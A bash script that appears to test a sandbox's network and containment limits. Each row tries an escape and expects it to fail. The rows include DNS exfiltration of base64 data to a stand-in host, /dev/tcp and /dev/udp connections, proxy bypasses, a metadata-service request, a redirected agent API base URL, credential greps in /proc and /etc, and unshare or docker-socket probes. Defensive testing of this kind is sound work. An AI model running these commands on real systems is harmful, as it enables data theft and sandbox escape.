#!/usr/bin/env bash
# hack/attack/inside.sh: rows of the attack list as a person would type them in
# a bottle. The environment has LOUD, AUTH, PRIVATE, UPSTREAM and ID. One JSON
# line a variant, as the program beside it prints them.
set -uo pipefail

mute=mute-$ID.example
export GIT_TERMINAL_PROMPT=0

# row ROW WANT WHAT COMMAND...: what happened is "exit N" and the first line
# of what was said. It passes where that begins with one of WANT ("|").
row() {
	local id=$1 want=$2 what=$3 said pass=false w words
	shift 3
	said=$("$@" 2>&1 </dev/null | head -c 300)
	said=$(printf '%s' "$said" | tr -c 'a-zA-Z0-9 .,:/=()_-' ' ' | head -c 160)
	IFS='|' read -ra words <<<"$want"
	for w in "${words[@]}"; do
		case "$said" in "$w"*) pass=true ;; esac
	done
	printf '{"row":"%s","tried":"%s","want":"%s","happened":"%s","pass":%s}\n' "$id" "$what" "$want" "$said" "$pass"
}

# web ARGS...: the status of what curl got, 000 where nothing answered.
web() { curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "$@"; }

# bare ARGS...: web of a program that knows no proxy.
bare() {
	env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy \
		curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "$@"
}

# fails COMMAND...: "failed", or what it printed.
fails() {
	local out
	if out=$("$@" 2>&1); then printf 'it worked: %s' "$out"; else printf 'failed'; fi
}

# marker finds no pattern of its own: what it looks for is not written there.
marker() {
	grep -rlsa "host-[o]nly-$ID" /home /run /tmp /etc /proc/*/environ /proc/*/cmdline 2>/dev/null | head -n 1 | grep . || printf nothing
}

lookup() { getent ahosts "$1" | head -n 1 | grep . || printf 'nothing'; }

no='000|curl'
row A1 nothing "getent of a name with data in it" lookup "cGFzc3dk.a1.$mute"
row A1 "$no" "curl of such a name" web "https://cGFzc3dk.a1.$mute/mute/A1"
row A1 failed "bash, /dev/udp to a name" fails bash -c "echo x >/dev/udp/cGFzc3dk.a1.$mute/53"
row A2 failed "bash, /dev/udp to a resolver outside: answered" fails bash -c 'exec 3<>/dev/udp/192.0.2.53/53 && echo x >&3 && timeout 1 head -c 1 <&3'
row A2 failed "bash, /dev/tcp to a resolver outside" fails timeout 3 bash -c 'exec 3<>/dev/tcp/192.0.2.53/53'
row A4 nothing "getent of a label under an exact name" lookup "data.$LOUD"
row B1 "400|403" "curl, Host of the route with a credential, straight to the address" web -H "Host: $AUTH" "http://$UPSTREAM/mute/B1"
row B2 403 "curl, another Host" web -H "Host: b2.$mute" "https://$LOUD/mute/B2"
row C6 "$no|403" "curl -L of a redirect to a name that is not listed" web -L "https://$AUTH/redirect?row=C6&to=https://c6.$mute/mute/C6"
row C6 200 "curl -L of a redirect to another listed name" web -L "https://$AUTH/redirect?row=C6&to=https://$LOUD/loud/C6-followed"
row D1 200 "curl -u of one's own" web -u stolen:login "https://$AUTH/loud/D1-basic"
row D2 failed "git push over HTTPS" fails bash -c "cd \"\$(mktemp -d)\" && git init -q . && git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x && git push https://$AUTH/mute.git HEAD:refs/heads/main"
row D2 failed "git clone where the route does not say so" fails git clone "https://$AUTH/mute.git" /tmp/mute
row D7 nothing "grep for the marker of the host's login and token in what is readable" marker
row D9 "$no|403" "an agent's base URL of its project's choice" bash -c "ANTHROPIC_BASE_URL=https://d9.$mute; curl -sS -o /dev/null -w '%{http_code}' \"\$ANTHROPIC_BASE_URL/v1/messages/mute\""
row D9 200 "settings of a project name another header for the login" web -H 'X-Api-Key: stolen-login' "https://$AUTH/loud/D9"
row E1 200 "the control: curl with the bottle's own settings" web "https://$LOUD/loud/E1-shell"
row E1 200 "curl --noproxy: the same way, the same rules" web --noproxy '*' "https://$LOUD/loud/E1-noproxy"
row E1 200 "curl without proxy variables" bare "https://$LOUD/loud/E1-bare"
row E1 "$no" "curl without proxy variables, a name that is not listed" bare "https://e1.$mute/mute/E1"
row E1 "$no" "NO_PROXY=*, a name that is not listed" env NO_PROXY='*' no_proxy='*' curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "https://e1.$mute/mute/E1"
row E1 "$no" "ALL_PROXY elsewhere" env -u HTTPS_PROXY -u https_proxy ALL_PROXY=socks5h://192.0.2.1:1080 curl -sS -o /dev/null -w '%{http_code}' --max-time 10 "https://$LOUD/mute/E1"
row E1 "$no" "curl --connect-to an address" web --noproxy '*' --connect-to "::$UPSTREAM:443" "https://$LOUD/mute/E1"
row E1 "$no|403" "curl --connect-to through the proxy" web --connect-to "::$UPSTREAM:443" "https://$LOUD/mute/E1"
row E1 "$no" "curl --resolve" web --noproxy '*' --resolve "$LOUD:443:$UPSTREAM" "https://$LOUD/mute/E1"
row E2 failed "ip addresses beside loopback" fails bash -c 'ls /sys/class/net | grep -v "^lo$"'
row E3 403 "curl of the metadata service" web http://169.254.169.254/latest/meta-data/
row E5 failed "mount, chroot" fails bash -c 'mount -t tmpfs x /mnt || chroot / true'
row E5 failed "unshare" fails unshare -Urn true
row E6 failed "bash, /dev/tcp straight out" fails timeout 3 bash -c "exec 3<>/dev/tcp/$UPSTREAM/443"
row E7 failed "the engine's socket" fails bash -c 'ls /var/run/docker.sock /run/containerd/containerd.sock'
